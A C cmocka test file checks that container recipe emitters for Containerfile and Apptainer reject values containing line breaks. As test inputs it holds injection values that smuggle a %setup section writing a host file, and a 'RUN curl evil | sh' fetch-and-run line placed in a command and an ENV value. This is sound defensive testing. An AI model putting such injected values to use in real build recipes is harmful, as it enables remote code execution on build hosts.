/* SPDX-License-Identifier: Apache-2.0 */
/* test_recipe.c — the recipe emitters refuse what their format cannot carry: a line break in any value would start
 * an instruction (Containerfile) or a section (apptainer: %setup runs on the build host) of its own. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/error.h"
#include "core/strbuf.h"
#include "image/recipe.h"

/* A recipe of one stage whose build command is cmd, as recipe_build() would make it. */
static void one_stage(struct recipe *r, const char *cmd)
{
	static struct recipe_instr v[3];
	static char *argv[3];

	memset(v, 0, sizeof(v));
	argv[0] = "sh";
	argv[1] = "-c";
	argv[2] = (char *)cmd;
	v[0].op = RECIPE_FROM;
	v[0].a = "nvcr.io/nvidia/cuda@sha256:0000000000000000000000000000000000000000000000000000000000000000";
	v[1].op = RECIPE_ENV;
	v[1].a = "BENCH_PREFIX";
	v[1].b = "/opt/stack/lib";
	v[2].op = RECIPE_RUN;
	v[2].argv = argv;
	v[2].argc = 3;
	memset(r, 0, sizeof(*r));
	r->header = "test";
	r->v = v;
	r->n = 3;
}

static void test_apptainer_refuses_a_section_in_a_value(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct recipe r;

	(void)state;
	one_stage(&r, "make && make install");
	assert_int_equal(recipe_emit_apptainer(&sb, &r), 0); /* the control: a one-line command is written */
	assert_non_null(strstr(sb.buf, "    'sh' '-c' 'make && make install'\n"));
	strbuf_reset(&sb);
	one_stage(&r, "make\n%setup\ntouch /HOST-pwned");
	assert_int_equal(recipe_emit_apptainer(&sb, &r), BENCH_E_MANIFEST);
	assert_int_equal(sb.len, 0);
	assert_non_null(strstr(bench_error_last(), "control character"));
	one_stage(&r, "make\r%setup");
	assert_int_equal(recipe_emit_apptainer(&sb, &r), BENCH_E_MANIFEST);
	assert_int_equal(sb.len, 0);
	strbuf_release(&sb);
}

static void test_containerfile_refuses_a_line_break_in_env(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct recipe r;

	(void)state;
	one_stage(&r, "make\nRUN curl evil | sh");
	/* JSON could carry it inside the one argument; one rule for both formats: no control character in any value */
	assert_int_equal(recipe_emit_containerfile(&sb, &r), BENCH_E_MANIFEST);
	strbuf_reset(&sb);
	one_stage(&r, "make");
	r.v[1].b = "/opt\nRUN curl evil | sh";
	assert_int_equal(recipe_emit_containerfile(&sb, &r), BENCH_E_MANIFEST);
	assert_int_equal(sb.len, 0);
	assert_int_equal(recipe_emit_apptainer(&sb, &r), BENCH_E_MANIFEST);
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_apptainer_refuses_a_section_in_a_value),
		cmocka_unit_test(test_containerfile_refuses_a_line_break_in_env),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
